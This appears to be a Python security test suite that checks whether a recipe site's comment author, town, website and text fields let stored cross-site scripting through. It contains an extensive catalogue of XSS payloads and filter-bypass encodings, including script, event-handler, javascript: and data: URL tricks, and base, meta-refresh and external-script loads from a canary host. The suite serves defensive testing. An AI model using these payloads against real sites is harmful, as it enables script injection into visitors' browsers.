"""Attacks on the readers of a recipe page: nothing that was posted may run as script there.

The page is parsed as a browser would; what counts is a script element, an event handler or a script address that carries the
random word of the attack.
"""

import random
import re
from html.parser import HTMLParser

from judge import Canary, Target, attack, breach

ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "to", "values", "from", "poster", "background", "srcset"}
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "data:image/svg+xml", "data:text/xml", "data:application")

TEXT_ONLY = ("iframe", "noembed", "noframes", "noscript", "plaintext", "textarea", "title", "xmp")
"""Elements in which a browser finds no others."""


def benign(target: Target) -> None:
    """An ordinary comment is still shown with its formatting."""
    recipe = random.randint(1, 1_000_000_000)
    comment = {"author": "Ada", "town": "Bath", "website": "ada.example", "text": "so <b>good</b>"}
    assert target.post(f"/recipes/{recipe}/comments", json=comment).status == 201
    page = target.get(f"/recipes/{recipe}").text
    assert "Ada from Bath" in page and "<b>good</b>" in page


class Finder(HTMLParser):
    """Collects what a browser would run because of `word`."""

    CDATA_CONTENT_ELEMENTS = ("script", "style", *TEXT_ONLY)

    def __init__(self, word: str) -> None:
        super().__init__(convert_charrefs=True)
        self.word = word
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list) -> None:
        seen: dict[str, str] = {}
        for name, value in attrs:
            seen.setdefault(name.lower(), value or "")
        self._script = tag.rsplit(":", 1)[-1] == "script"
        for name, value in seen.items():
            if self.word not in value:
                continue
            address = re.sub(r"[\t\n\r]", "", value.lstrip("".join(map(chr, range(33))))).lower()
            if re.fullmatch(r"on[a-z]+", name):
                self.found.append(f"handler {name}={value!r} on <{tag}>")
            elif name in ADDRESSES and address.startswith(SCRIPT_SCHEMES):
                self.found.append(f"address {name}={value!r} on <{tag}>")
            elif name == "srcdoc" and "<" in value:
                self.found.append(f"srcdoc={value!r} on <{tag}>")
            elif name == "src" and tag in {"script", "iframe", "embed", "frame"}:
                self.found.append(f"<{tag} src={value!r}>")
            elif tag == "base" and name == "href":
                self.found.append(f"<base href={value!r}>")
            elif tag == "meta" and name == "content" and "refresh" in seen.get("http-equiv", "").lower():
                self.found.append(f"<meta refresh {value!r}>")

    def handle_startendtag(self, tag: str, attrs: list) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        if self._script and self.word in data:
            self.found.append(f"script element with {data!r}")

    def handle_endtag(self, tag: str) -> None:
        self._script = False


def show(target: Target, word: str, **fields: str) -> None:
    """Post one comment and look at the page; script of ours on it is the breach."""
    recipe = random.randint(1, 1_000_000_000)
    comment = {"author": "Ada", "town": "", "website": "", "text": "Lovely!"} | fields
    if target.post(f"/recipes/{recipe}/comments", json=comment).status != 201:
        return
    finder = Finder(word)
    finder.feed(target.get(f"/recipes/{recipe}").text)
    finder.close()
    if finder.found:
        breach(f"a comment with {fields!r} puts script on the page: {finder.found[0]}")


def cased(word: str) -> str:
    """The word with random capitals."""
    return "".join(random.choice([char, char.upper()]) for char in word)


def schemes() -> list[str]:
    """Spellings of javascript: that a browser takes for it, as they stand in a decoded address."""
    cut = random.randint(1, 9)
    split = "javascript"[:cut] + random.choice("\t\n\r") + "javascript"[cut:]
    return ["javascript:", cased("javascript") + ":", f"{split}:", " javascript:", "\x01javascript:", "\njavascript:", "\x0c javascript:",
            "javascript\t:"]


def addresses(word: str) -> list[str]:
    """Script addresses that look like something else."""
    code = f"top.{word}=1"
    out = [scheme + code for scheme in schemes()]
    out += [f"javascript://ok.example/%0a{code}", f"javascript://https://ok.example/%0a{code}"]
    out += [f"javascript:{code}//https://ok.example", f"javascript:/*mailto:*/{code}"]
    out += [f"javascript:void('/recipes/3#steps',{code})", f"vbscript:{code}", f"data:text/html,<script>{code}</script>"]
    out += [f"javascript:{random.randint(1, 99)}/({code})"]
    out += [f"javascript:{code}//{end}" for end in ("\nhttps://ok.example", "\rhttps://ok.example", "\n/recipes/3")]
    out += [f"DATA:text/html;base64,{word}", f"jaVascript:http:{code}", f"javascript:{code}#https://"]
    return out


def encoded(address: str) -> list[str]:
    """The address in spellings that only decoding entities brings back."""
    number = random.choice(["&#{};", "&#x{:x};", "&#0000{};", "&#X{:X};", "&#{}"])
    one = random.randrange(0, 4)
    digits = number.format(ord(address[one])) + ("" if number.endswith(";") else ";" if address[one + 1].isdigit() else "")
    return [
        address,
        address[:one] + digits + address[one + 1 :],
        "".join(f"&#{ord(char)};" for char in address),
        address.replace(":", "&colon;", 1),
        address.replace("script:", "&Tab;script:", 1),
        address.replace("script:", "scr&NewLine;ipt:", 1),
        "&#1;" + address,
        "&#32;" + address,
    ]


def encoded_twice(address: str) -> str:
    """The address in a spelling with entities that are left when entities have been decoded once."""
    part, hidden = random.choice(
        [("ascript:", "&{};Tab;ascript:"), ("script:", "scr&{};NewLine;ipt:"), (":", "&{};colon;"), (":", "&{};#58;")]
    )
    return address.replace(part, hidden.format(random.choice(["amp", "#38", "#x26"])), 1)


def gaps(name: str) -> str:
    """Ways in which a template may mark the gap where a value is put."""
    shapes = ["{{{0}}}", "{{{{{0}}}}}", "{{{{ {0} }}}}", "#{{{0}}}", "%{0}%", "%({0})s"]
    shapes += ["${0}", ":{0}", "__{0}__", "[[{0}]]", "@{0}@"]
    return "".join(shape.format(form(name)) for shape in shapes for form in (str, str.upper))


@attack(cwe=79, asvs="1.3.1")
def test_elements_that_run_script_do_not_survive(target: Target, canary: Canary):
    word = canary.text(12)
    code = f"top.{word}=1"
    script = cased("script")
    texts = [
        f"<script>{code}</script>",
        f"<{script}>{code}</{script}>",
        f"<script\n>{code}</script\n>",
        f"<script/x>{code}</script >",
        f"<script src=//{word}.example></script>",
        f"<scr<script>ipt>{code}</scr</script>ipt>",
        f"<scr<b>ipt>{code}</scr</b>ipt>",
        f"<<b>script>{code}</script>",
        f"<<script>script>{code}</script>",
        f"<script type=module>{code}",
        f"<svg><script>{code}</script></svg>",
        f"<img src=x onerror={code}>",
        f"<img src=x {cased('onerror')}='{code}'>",
        f"<img/src=x/onerror={code}>",
        f"<img\nsrc=x\nonerror\n=\n{code}\n>",
        f"<img src=x onerror={code} ",
        f"<img src=x onerror={code} alt=",
        f'<img src=x alt=">" onerror="{code}">',
        f"<svg/onload={code}>",
        f"<svg onload={code}//",
        f"<details open ontoggle={code}>",
        f"<video><source onerror={code}></video>",
        f"<body onload={code}>",
        f"<marquee onstart={code}>x</marquee>",
        f"<iframe srcdoc='&lt;script&gt;{code}&lt;/script&gt;'></iframe>",
        f"<iframe src=javascript:{code}></iframe>",
        f"<form action=javascript:{code}><button>go</button></form>",
        f"<form><button formaction=javascript:{code}>go</button></form>",
        f"<object data=javascript:{code}></object>",
        f"<embed src=javascript:{code}>",
        f"<math><a xlink:href=javascript:{code}>x</a></math>",
        f"<base href=//{word}.example/>",
        f"<meta http-equiv=refresh content='0;url=//{word}.example'>",
        f"<x onclick={code}>x</x>",
        f"<br/><big onclick={code}>x</big>",
        f"<image src=x onerror={code}>",
        f"<body/onload={code}>",
        f"</div><script>{code}</script>",
        f"<style><img src=x onerror={code}></style><img src=x onerror={code}>",
        f"<!--><img src=x onerror={code}>-->",
        f"<![CDATA[<img src=x onerror={code}>]]>",
        f"<b><img src=x onerror={code}></b>",
        f"<a href='/x'><img src=x onerror={code}></a>",
        f"<svg><a><animate attributeName=href values=javascript:{code} dur=9s></animate><text y=20>x</text></a></svg>",
        f"<svg><a><set attributeName=href to=javascript:{code}></set><text y=20>x</text></a></svg>",
    ]
    for name in ("style", *TEXT_ONLY):
        texts.append(f"<{cased(name)}><img src=x onerror={code}></{name}>")
    for text in canary.shuffled(texts):
        show(target, word, text=text)


@attack(cwe=79, asvs="1.3.1")
def test_formatting_carries_no_handlers(target: Target, canary: Canary):
    word = canary.text(12)
    code = f"top.{word}=1"
    event = canary.choice(["onclick", "onmouseover", "onfocus", "onpointerenter", "onanimationstart"])
    texts = []
    for name in canary.shuffled(["b", "i", "a", "br"])[:3]:
        texts += [
            f"<{name} {event}={code}>x</{name}>",
            f'<{name} {cased(event)}="{code}">x</{name}>',
            f"<{name} {event}='{code}'>x</{name}>",
            f"<{name}/{event}={code}>x</{name}>",
            f"<{name}\n{event}\n=\n'{code}'>x</{name}>",
            f"<{name}\t{event}={code}//",
            f'<{name} title=">" {event}="{code}">x</{name}>',
            f"<{name} x='' {event}={code} tabindex=1 autofocus>x</{name}>",
            f"<{name} {event}{event}={code} {event}={code}>x</{name}>",
            f"<{cased(name)} on{event}={code} {event}='{code}'>x</{name}>",
            f"<{name}\x0c{event}={code}>x</{name}>",
        ]
    texts += [
        f'<a href="/recipes/3" {event}="{code}">x</a>',
        f'<a href="/recipes/3"{event}="{code}">x</a>',
        f"<a href='/recipes/3' {event}='{code}'>x</a>",
        f"<a {event}={code} href=\"https://ok.example/\">x</a>",
        f'<a href="https://ok.example/&quot; {event}=&quot;{code}">x</a>',
        f"<a href='https://ok.example/\" {event}=\"{code}'>x</a>",
        f"<a href=\"https://ok.example/' {event}='{code}\">x</a>",
        f"<a href=https://ok.example/&#32;{event}={code}>x</a>",
        f'<a href="https://ok.example/&gt;&lt;img src=x onerror={code}&gt;">x</a>',
        f'<a href="https://ok.example/"><b {event}="{code}">x</b></a>',
        f'<a href="https://ok.example/&#34;&#32;{event}=&#34;{code}">x</a>',
    ]
    for text in canary.shuffled(texts):
        show(target, word, text=text)


@attack(cwe=79, asvs="1.2.2")
def test_links_in_the_text_run_no_script(target: Target, canary: Canary):
    word = canary.text(12)
    for address in canary.shuffled(addresses(word)):
        plain, *others = encoded(address)
        first, second, third = random.sample(others, 3)
        show(target, word, text=f'<a href="{plain}">x</a>')
        show(target, word, text=f'<a href="{first}">x</a>')
        show(target, word, text=f"<a href='{second}'>x</a>")
        show(target, word, text=f'<a href="{encoded_twice(address)}">x</a>')
        show(target, word, text=f"<{random.choice('aA')} title='x'\n{cased('href')} = \"{third}\" class=x>x</a>")
        if not re.search(r"[\s<>\"'=`]", address):
            show(target, word, text=f"<a href={address}>x</a>")


@attack(cwe=79, asvs="1.2.1")
def test_author_and_town_stay_text(target: Target, canary: Canary):
    word = canary.text(12)
    code = f"top.{word}=1"
    values = [
        f"<img src=x onerror={code}>",
        f"<script>{code}</script>",
        f"<svg/onload={code}>",
        f'"><img src=x onerror={code}>',
        f"'><img src=x onerror={code}>",
        f'" onmouseover="{code}',
        f"' onmouseover='{code}",
        f'"onmouseover="{code}',
        f'x"/onmouseover={code} ',
        f'" autofocus tabindex=1 onfocus={code} x="',
        f" onmouseover={code} ",
        f"x onmouseover={code}//",
        f"&lt;img src=x onerror={code}&gt;",
        f"&quot; onmouseover=&quot;{code}",
        f"&#34; onmouseover=&#34;{code}",
        f"&#x3c;img src=x onerror={code}&#x3e;",
        f"<<img src=x onerror={code}>",
        f"<img src=x onerror={code} ",
        f"<scr<script>ipt>{code}</scr</script>ipt>",
        f"</a></li><script>{code}</script>",
        f"<b onclick={code}>Ada</b>",
        f"<a href=javascript:{code}>Ada</a>",
        f"\\\"><img src=x onerror={code}>",
        f"\\' onmouseover={code}",
    ]
    for value in canary.shuffled(values):
        show(target, word, author=value, town="Bath")
        show(target, word, town=value)
        show(target, word, author=value, website="https://ok.example/")
    show(target, word, author='" onmouseover="', town=f'" onmouseover="{code}')
    show(target, word, author="<img src=x ", town=f" onerror={code}>")
    show(target, word, author=f"<img src=x onerror={code}>", text="{{ author | safe }}")
    for name in ("text", "content", "body", "html", "comment", "message"):
        fields = {"author": gaps(name), "town": gaps(name), "website": "ok.example/" + gaps(name)}
        text = f'" onmouseover={code} x="<a href="https://ok.example/onmouseover={code}//">x</a>'
        show(target, word, **fields, text=text)
    show(target, word, author=f"\u0338 onmouseover={code} ", text=f"<b>\u0338 onmouseover={code} </b>")
    show(target, word, text=f"\u0338 onmouseover={code} ")
    show(target, word, author=f"\uff1cimg src=x onerror={code}\uff1e", town=f"\uff02 onmouseover={code} x=\uff02")


@attack(cwe=79, asvs="1.2.2")
def test_websites_run_no_script(target: Target, canary: Canary):
    word = canary.text(12)
    code = f"top.{word}=1"
    values = [spelled for address in addresses(word) for spelled in (address, random.choice(encoded(address)[1:]))]
    for start in ("https://ok.example/", "ok.example/", "", "mailto:a@ok.example"):
        values += [
            f'{start}" onmouseover="{code}',
            f"{start}' onmouseover='{code}",
            f'{start}"><img src=x onerror={code}>',
            f"{start}'><script>{code}</script>",
            f"{start} onmouseover={code}",
            f"{start}><img src=x onerror={code}>",
            f"{start}&quot; onmouseover=&quot;{code}",
            f'{start}"\tonmouseover="{code}',
        ]
    for value in canary.shuffled(values):
        show(target, word, website=value)
